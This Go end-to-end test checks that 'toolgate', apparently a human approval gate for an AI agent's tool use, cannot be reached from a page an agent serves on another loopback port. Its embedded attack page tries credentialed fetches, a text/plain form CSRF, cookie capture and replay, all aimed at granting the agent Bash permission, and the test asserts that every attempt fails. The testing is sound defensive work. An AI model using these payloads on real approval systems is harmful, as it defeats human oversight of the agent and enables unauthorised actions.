package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
)

// attackPage is what an agent's dev server on another loopback port serves
// to the person's browser: it tries every way a page has to reach
// toolgate's API with the browser's credentials, a form POST that answers
// the agent's question among them, and reports what it could read to its
// own server.
const attackPage = `<!doctype html><title>dev server</title><body><script>
const gate = %q, id = %q;
const grab = JSON.stringify({answer: "allow_user", rule: "Bash"});
const results = {};
async function attempt(name, f) {
  try { results[name] = String(await f()); } catch (e) { results[name] = "refused: " + e.message; }
}
function load(el, src) {
  return new Promise((done) => { el.onload = () => done("loaded"); el.onerror = () => done("error"); el.src = src; document.body.append(el); });
}
(async () => {
  await attempt("whoami", () => fetch(gate + "/v1/whoami", {credentials: "include"}).then((r) => r.text()));
  await attempt("whoami no-cors", () => fetch(gate + "/v1/whoami", {credentials: "include", mode: "no-cors"}).then((r) => r.type + " " + r.status));
  await attempt("approvals", () => fetch(gate + "/v1/approvals", {credentials: "include"}).then((r) => r.text()));
  await attempt("answer", () => fetch(gate + "/v1/approvals/" + id, {method: "POST", credentials: "include",
    headers: {"Content-Type": "application/json"}, body: grab}).then((r) => r.status + " " + r.text()));
  await attempt("answer no-cors", () => fetch(gate + "/v1/approvals/" + id, {method: "POST", credentials: "include",
    mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: grab}).then((r) => r.type));
  await attempt("renew no-cors", () => fetch(gate + "/v1/web-session", {method: "POST", credentials: "include", mode: "no-cors"}).then((r) => r.type));
  results.img = await load(new Image(), gate + "/v1/whoami");
  results.script = await load(document.createElement("script"), gate + "/v1/approvals");
  results.storage = JSON.stringify({session: sessionStorage.length, local: localStorage.length, cookie: document.cookie});
  const sink = document.createElement("iframe");
  sink.name = "sink";
  document.body.append(sink);
  const f = document.createElement("form");
  f.method = "POST"; f.action = gate + "/v1/approvals/" + id; f.enctype = "text/plain"; f.target = "sink";
  const i = document.createElement("input");
  i.name = '{"answer":"allow_user","rule":"Bash","message":"'; i.value = '"}';
  f.append(i); document.body.append(f);
  results.form = await new Promise((done) => { sink.onload = () => done("answered"); setTimeout(() => done("no load event"), 5000); f.submit(); });
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
})();
</script></body>`

// devServer is the attacker: an HTTP server on another loopback port that
// serves attackPage and keeps every Cookie header the browser sends it.
type devServer struct {
	base    string
	mu      sync.Mutex
	cookies []string
	report  chan map[string]string
}

func startDevServer(t *testing.T, gate, approvalID string) *devServer {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	d := &devServer{base: "http://" + ln.Addr().String(), report: make(chan map[string]string, 1)}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /{$}", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, attackPage, gate, approvalID)
	})
	mux.HandleFunc("POST /report", func(w http.ResponseWriter, r *http.Request) {
		var m map[string]string
		_ = json.NewDecoder(r.Body).Decode(&m)
		select {
		case d.report <- m:
		default:
		}
	})
	hs := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if c := r.Header.Get("Cookie"); c != "" {
			d.mu.Lock()
			d.cookies = append(d.cookies, c)
			d.mu.Unlock()
		}
		mux.ServeHTTP(w, r)
	})}
	go func() { _ = hs.Serve(ln) }()
	t.Cleanup(func() { hs.Close() })
	return d
}

// TestOtherPortGetsNoCredential: a person signed in to toolgate's page
// opens, in the same browser, a page of a server the agent started on
// another loopback port. Cookies do not keep ports apart and both are one
// site, so whatever toolgate kept in a cookie would reach that server. Its
// page tries fetch with credentials, no-cors POSTs, image and script tags
// and a form POST; the server replays every cookie it got, without an
// Origin and with toolgate's own. The agent's question stays pending, no
// request reads anything, and the person's page still answers it.
func TestOtherPortGetsNoCredential(t *testing.T) {
	requireBrowser(t)
	srv := startServer(t)
	b := newBrowser(t)
	b.do(chromedp.Navigate(srv.login))
	b.waitFor("the page to start", `document.body.dataset.ready === "true"`)
	var jar []*network.Cookie
	b.do(chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
		res, err := cdp.Call(ctx, tg, network.GetCookies, network.GetCookiesParams{URLs: []string{srv.base + "/"}})
		jar = res.Cookies
		return err
	}))
	if len(jar) != 0 {
		t.Errorf("after the login the browser holds cookies for %s: %+v", srv.base, jar)
	}

	ch := srv.checkAsync("dev", "npm test")
	a := srv.pending(t, "dev")
	b.waitCard(a.ID)

	dev := startDevServer(t, srv.base, a.ID)
	attacker := b.newTab() // its console errors are the refusals, and not checked
	attacker.do(chromedp.Navigate(dev.base + "/"))
	var results map[string]string
	select {
	case results = <-dev.report:
	case <-time.After(30 * time.Second):
		t.Fatal("the attacking page reported nothing within 30s")
	}
	t.Logf("what the attacking page got: %v", results)
	for name, got := range results {
		for _, secret := range []string{"approver", "csrf", "token", a.ID, "npm test"} {
			if strings.Contains(got, secret) {
				t.Errorf("the attacking page read %q through %s: %s", secret, name, got)
			}
		}
	}
	// The dev server replays whatever cookies it received, as a server
	// can: with no Origin, and with toolgate's own.
	dev.mu.Lock()
	cookies := append([]string{""}, dev.cookies...)
	dev.mu.Unlock()
	slices.Sort(cookies)
	cookies = slices.Compact(cookies)
	for _, c := range cookies {
		if strings.Contains(c, "toolgate") {
			t.Errorf("the dev server received a toolgate cookie: %s", c)
		}
		for _, origin := range []string{"", srv.base} {
			status, body := replay(t, srv.base, http.MethodGet, "/v1/whoami", "", c, origin, "")
			if status != http.StatusUnauthorized || strings.Contains(body, "role") {
				t.Errorf("whoami with the cookies %q (Origin %q): %d %s", c, origin, status, body)
			}
			var who map[string]string
			_ = json.Unmarshal([]byte(body), &who)
			status, body = replay(t, srv.base, http.MethodPost, "/v1/approvals/"+a.ID, `{"answer":"allow_user","rule":"Bash"}`, c, origin, who["csrf"])
			if status != http.StatusUnauthorized {
				t.Errorf("answer with the cookies %q (Origin %q): %d %s", c, origin, status, body)
			}
		}
	}

	var res struct {
		Approvals []approval `json:"approvals"`
	}
	if _, err := srv.call(context.Background(), srv.approver, http.MethodGet, "/v1/approvals?state=pending&session=dev", nil, &res); err != nil {
		t.Fatal(err)
	}
	if len(res.Approvals) != 1 || res.Approvals[0].ID != a.ID {
		t.Fatalf("after the attack the agent's question is not pending: %+v", res.Approvals)
	}
	if evs := srv.events(t, "type=permission.resolved&session=dev"); len(evs) != 0 {
		t.Fatalf("the attack resolved the question: %+v", evs)
	}

	// The person's page, open all along, answers it.
	b.do(chromedp.Click(button(a.ID, "deny"), chromedp.NodeVisible))
	d := awaitDecision(t, ch)
	if d.Decision != "deny" || d.Reason != "user_denied" {
		t.Fatalf("the agent got %s (%s), want deny (user_denied) from the page", d.Decision, d.Reason)
	}
}

// replay sends one request to toolgate as a server would, with the given
// Cookie header, Origin and CSRF header ("" for none). It returns the
// status and the body.
func replay(t *testing.T, base, method, path, body, cookie, origin, csrf string) (int, string) {
	t.Helper()
	req, err := http.NewRequest(method, base+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range map[string]string{"Cookie": cookie, "Origin": origin, "X-Toolgate-CSRF": csrf, "Content-Type": "application/json"} {
		if v != "" {
			req.Header.Set(k, v)
		}
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	data, _ := io.ReadAll(res.Body)
	return res.StatusCode, string(data)
}
